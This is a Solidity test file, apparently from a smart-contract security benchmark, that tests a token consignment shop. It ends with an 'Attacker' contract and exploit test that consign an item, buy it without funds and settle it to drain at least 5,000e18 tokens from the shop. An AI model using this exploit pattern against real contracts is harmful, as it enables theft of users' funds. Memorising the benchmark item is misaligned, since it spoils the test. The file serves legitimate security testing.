// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./ConsignmentShop.sol";

// assay-canary-bb13a968-e01e-4be0-92c8-560ae5ccd18c

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// An old coin, which gives no reasons.
contract OldCoin {
    address private maker = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker);
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(allowance[from][msg.sender] >= amount);
        allowance[from][msg.sender] -= amount;
        move(from, to, amount);
        return true;
    }

    function move(address from, address to, uint256 amount) private {
        require(balanceOf[from] >= amount);
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

// Coins that refuse in other ways, or answer nothing.
contract OtherCoin {
    uint256 private kind;

    constructor(uint256 kind_) {
        kind = kind_;
    }

    fallback(bytes calldata) external returns (bytes memory) {
        require(kind != 0, "closed");
        return kind == 1 ? abi.encode(false) : bytes("");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant KEEPER = address(0x4EE);
    uint256 private constant START = 1_700_000_000;

    OldCoin public coin;
    ConsignmentShop private shop;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new OldCoin();
        vm.prank(KEEPER);
        shop = new ConsignmentShop(address(coin), 1_000);
        coin.mint(CAT, 10_000e18);
        vm.prank(CAT);
        coin.approve(address(shop), 10_000e18);
        vm.startPrank(ANA);
        shop.consign(6_000e18);
        shop.consign(500e18);
        vm.stopPrank();
        vm.prank(CAT);
        shop.buy(0, 6_000e18);
        mallory = new Attacker(shop);
    }

    function test_Regular() public {
        vm.prank(KEEPER);
        shop.setCommission(2_000);
        vm.startPrank(BEN);
        uint256 id = shop.consign(800e18);
        shop.reprice(id, 1_000e18);
        shop.takeBack(shop.consign(1));
        vm.stopPrank();
        vm.startPrank(CAT);
        shop.buy(id, 1_000e18);
        shop.buy(1, 500e18);
        vm.stopPrank();
        require(coin.balanceOf(address(shop)) == 7_500e18, "paid");
        vm.warp(START + 7 days);
        vm.prank(KEEPER);
        shop.refund(1);
        require(coin.balanceOf(CAT) == 3_000e18, "refunded");
        vm.warp(START + 7 days + 1);
        shop.settle(0);
        shop.settle(id);
        require(coin.balanceOf(ANA) == 5_400e18 && coin.balanceOf(BEN) == 800e18, "settled");
        require(shop.earned() == 800e18, "earned");
        vm.startPrank(KEEPER);
        shop.takeEarnings();
        require(coin.balanceOf(KEEPER) == 800e18 && shop.earned() == 0, "taken");
        shop.handOver(BEN);
        vm.stopPrank();
        vm.prank(BEN);
        shop.accept();
        require(shop.keeper() == BEN && shop.nextKeeper() == address(0), "handed over");
        OtherCoin silent = new OtherCoin(2);
        ConsignmentShop other = new ConsignmentShop(address(silent), 0);
        other.consign(5);
        other.buy(0, 5);
    }

    function test_RefusesSetups() public {
        vm.expectRevert(abi.encodeWithSelector(TokenPayments.NoToken.selector, ANA));
        new ConsignmentShop(ANA, 1_000);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.TooMuch.selector, 3_001));
        new ConsignmentShop(address(coin), 3_001);
    }

    function test_RefusesCoins() public {
        ConsignmentShop other = new ConsignmentShop(address(new OtherCoin(1)), 0);
        other.consign(5);
        vm.expectRevert(TokenPayments.AnsweredNo.selector);
        other.buy(0, 5);
        other = new ConsignmentShop(address(new OtherCoin(0)), 0);
        other.consign(5);
        bytes memory closed = abi.encodeWithSignature("Error(string)", "closed");
        vm.expectRevert(abi.encodeWithSelector(TokenPayments.Refused.selector, closed));
        other.buy(0, 5);
    }

    function test_RefusesSellers() public {
        vm.expectRevert(ConsignmentShop.NoPrice.selector);
        shop.consign(0);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.NotSeller.selector, address(this)));
        shop.reprice(1, 5);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.NotSeller.selector, address(this)));
        shop.takeBack(1);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.WrongState.selector, 1));
        shop.reprice(0, 5);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.WrongState.selector, 1));
        shop.takeBack(0);
        vm.expectRevert(ConsignmentShop.NoPrice.selector);
        shop.reprice(1, 0);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.WrongState.selector, 0));
        shop.settle(1);
        vm.warp(START + 7 days);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.OnTrial.selector, START + 7 days));
        shop.settle(0);
        vm.stopPrank();
    }

    function test_RefusesBuyers() public {
        vm.startPrank(CAT);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.WrongState.selector, 1));
        shop.buy(0, 6_000e18);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.TooDear.selector, 500e18));
        shop.buy(1, 500e18 - 1);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes memory reason = abi.encodeWithSelector(ConsignmentShop.NotKeeper.selector, CAT);
        vm.startPrank(CAT);
        vm.expectRevert(reason);
        shop.refund(0);
        vm.expectRevert(reason);
        shop.takeEarnings();
        vm.expectRevert(reason);
        shop.setCommission(1);
        vm.expectRevert(reason);
        shop.handOver(CAT);
        vm.expectRevert(reason);
        shop.accept();
        vm.stopPrank();
    }

    function test_RefusesKeepers() public {
        vm.startPrank(KEEPER);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.WrongState.selector, 0));
        shop.refund(1);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.TooMuch.selector, 3_001));
        shop.setCommission(3_001);
        vm.warp(START + 7 days + 1);
        vm.expectRevert(abi.encodeWithSelector(ConsignmentShop.TrialOver.selector, START + 7 days));
        shop.refund(0);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.trade();
        vm.warp(START + 7 days + 1);
        mallory.settle();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 5_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(shop);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ConsignmentShop private shop;
    uint256 private id;

    constructor(ConsignmentShop s) {
        shop = s;
    }

    function trade() external {
        id = shop.consign(6_000e18);
        shop.buy(id, 6_000e18);
    }

    function settle() external {
        shop.settle(id);
    }
}
